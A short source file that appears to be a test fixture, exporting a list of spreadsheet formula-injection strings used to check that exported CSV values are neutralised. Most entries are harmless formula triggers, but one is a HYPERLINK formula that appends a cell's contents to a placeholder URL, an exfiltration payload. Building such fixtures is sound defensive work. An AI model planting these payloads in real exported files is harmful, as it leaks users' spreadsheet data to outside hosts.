// Text that a spreadsheet would compute.
export const attacks = [
  '=HYPERLINK("http://e?"&A1)',
  '+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\u0000=1',
  '\r=1',
  '＝1+1',
  '"a","=1"',
  'a;=1+1',
  'a\t@SUM(1)',
]
